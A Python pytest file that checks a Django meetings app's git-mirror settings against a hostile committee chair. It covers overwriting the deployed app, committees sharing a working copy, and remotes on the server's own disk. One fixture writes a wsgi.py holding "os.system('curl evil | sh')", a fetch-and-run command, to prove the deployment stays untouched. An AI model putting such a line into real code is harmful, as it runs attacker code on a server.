"""Issue 25: the git mirror writes only where the site decides, whatever a chair types on the settings page.

A chair chooses the remote and the branch; the working copy is the site's own,
one per committee. These are the attacks as a chair would make them.
"""

import pytest

from meetings.lib.git import git, git_text
from meetings.models import Committee, Meeting
from meetings.services.publishing import publish_meeting
from meetings.services.scheduling import create_meeting
from tests.support.mirror import TESTER, bare_repository, commits
from tests.support.pages import browser_form, form_errors


def set_mirror(client, slug: str, **mirror) -> None:
    """Post the committee's settings page with these mirror fields, as its chair would."""
    data = browser_form(client.get(f"/{slug}/settings/"))
    data.update({f"mirror_{name}": value for name, value in mirror.items()})
    response = client.post(f"/{slug}/settings/", data)
    assert response.status_code == 302, form_errors(response)


def test_a_chair_cannot_make_the_mirror_rebase_a_checkout_of_the_app_onto_their_history(
    client, people, draft, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.PMC_GIT_MIRROR_LOCAL_REMOTES = True  # the chair's "remote server" is a bare repository here
    # The deployment: a clean `git clone` of the app.
    upstream = tmp_path / "upstream"
    git(["init", "-q", "--initial-branch=main", str(upstream)])
    (upstream / "pmc_minutes").mkdir()
    (upstream / "pmc_minutes" / "wsgi.py").write_text("application = 'the real app'\n")
    git(["add", "."], cwd=upstream)
    git(["commit", "-q", "-m", "The app"], cwd=upstream, env=TESTER)
    app = tmp_path / "app"
    git(["clone", "-q", str(upstream), str(app)])
    # The chair's remote: the app's history and their own wsgi.py on top.
    evil = bare_repository(tmp_path / "chair.git")
    git(["push", "-q", str(evil), "main"], cwd=upstream)
    theirs = tmp_path / "theirs"
    git(["clone", "-q", str(evil), str(theirs)])
    (theirs / "pmc_minutes" / "wsgi.py").write_text("import os; os.system('curl evil | sh')\n")
    git(["commit", "-q", "-am", "Mine"], cwd=theirs, env=TESTER)
    git(["push", "-q", "origin", "main"], cwd=theirs)
    before = git_text(["rev-parse", "HEAD"], cwd=app)
    client.force_login(people["chair"])

    set_mirror(client, "runtime", path=str(app), remote=str(evil), branch="main")
    with django_capture_on_commit_callbacks(execute=True):
        publish_meeting(Meeting.objects.get(pk=draft.pk), by=people["chair"])

    assert (app / "pmc_minutes" / "wsgi.py").read_text() == "application = 'the real app'\n"
    assert git_text(["rev-parse", "HEAD"], cwd=app) == before
    assert git_text(["status", "--porcelain", "--untracked-files=all"], cwd=app) == ""


def test_two_committees_never_share_a_working_copy_nor_push_each_others_commits(
    client, people, draft, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.PMC_GIT_MIRROR_LOCAL_REMOTES = True
    shared = tmp_path / "shared"
    runtime_remote = bare_repository(tmp_path / "runtime.git")
    extensions_remote = bare_repository(tmp_path / "extensions.git")
    client.force_login(people["chair"])
    set_mirror(client, "runtime", path=str(shared), remote=str(runtime_remote), branch="main")
    client.force_login(people["other_chair"])
    set_mirror(client, "extensions", path=str(shared), remote=str(extensions_remote), branch="main")
    theirs = create_meeting(Committee.objects.get(slug="extensions"), day=draft.date)

    with django_capture_on_commit_callbacks(execute=True):
        publish_meeting(Meeting.objects.get(pk=draft.pk), by=people["chair"])
    with django_capture_on_commit_callbacks(execute=True):
        publish_meeting(theirs, by=people["other_chair"])

    pushed = {name for commit in commits(extensions_remote) for name in commit.files}
    assert pushed == {"Extensions/2030/2030-01-08-extensions.md"}
    assert {name for commit in commits(runtime_remote) for name in commit.files} == {
        "Runtime/2030/2030-01-08-runtime.md"
    }
    assert not shared.exists()


@pytest.mark.parametrize("remote", ["LOCAL", "file://LOCAL", "/srv/pmc-minutes/.git"])
def test_a_remote_on_the_servers_own_disk_is_refused_unless_the_operator_allows_it(client, people, tmp_path, remote):
    bare_repository(tmp_path / "local.git")
    remote = remote.replace("LOCAL", str(tmp_path / "local.git"))
    client.force_login(people["chair"])
    data = browser_form(client.get("/runtime/settings/"))
    data.update({"mirror_path": str(tmp_path / "work"), "mirror_remote": remote})

    response = client.post("/runtime/settings/", data)

    assert response.status_code == 200
    assert any("on this server" in error for error in form_errors(response)), form_errors(response)
    assert Committee.objects.get(slug="runtime").mirror_remote == ""
